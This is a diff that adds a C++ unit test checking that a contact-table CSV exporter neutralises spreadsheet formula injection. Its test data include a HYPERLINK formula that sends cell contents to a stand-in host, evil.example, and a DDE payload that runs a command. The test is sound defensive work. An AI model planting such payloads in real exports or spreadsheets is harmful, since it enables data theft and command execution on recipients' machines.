@@ -32,6 +32,23 @@ TEST(ContactTable, ATableOfPeopleIsReadWithListsAndConsents)
     EXPECT_EQ(rows.rows[1].fields.keys(), QStringList{u"name"_s}) << "an empty cell is nothing";
 }
 
+TEST(ContactTable, NothingThatAStrangerCalledThemselvesIsAFormula)
+{
+    QList<ContactRow> rows;
+    const QStringList names{u"=HYPERLINK(\"http://evil.example?\"&A1,\"x\")"_s, u"+cmd|' /C calc'!A0"_s, u"-2+3"_s, u"@SUM(A1)"_s, u"＝1+1"_s, u"'quoted"_s, u"Ada"_s};
+    for (const QString& name : names)
+        rows.append({0, {}, {{u"name"_s, name}, {u"phone"_s, u"+4915112345678"_s}}, {}, {{{}, u"e-mail"_s, {}, true, u"=form"_s, {}, {}}, {{}, u"sms"_s, {}, true, u"her word"_s, {}, {}}}});
+    const QByteArray table = contactsTable(rows);
+    for (const char* formula : {"\r\n=", "\"=", ",=", "\r\n+cmd", "\r\n-", "\r\n@", "\r\n＝"})
+        EXPECT_FALSE(table.contains(formula)) << formula << " in\n" << table.toStdString();
+    EXPECT_TRUE(table.contains(",+4915112345678,")) << "a number is a number";
+    EXPECT_TRUE(table.contains("'=form; her word")) << "each source of what they said";
+    const ContactRows again = readContacts(table, u"out.csv"_s, {1}).value();
+    ASSERT_EQ(again.rows.size(), names.size()) << again.faults.join(u'\n').toStdString();
+    for (qsizetype i = 0; i < names.size(); ++i)
+        EXPECT_EQ(again.rows[i].fields.value(u"name"_s), names[i]) << "it comes in as it went out";
+}
+
 TEST(ContactTable, EachThingThatIsWrongIsNamedWithItsLineAndWhatWouldBeRight)
 {
     const ContactRows rows = read("name,e-mail,phone,segments,agreed,how,id\n"
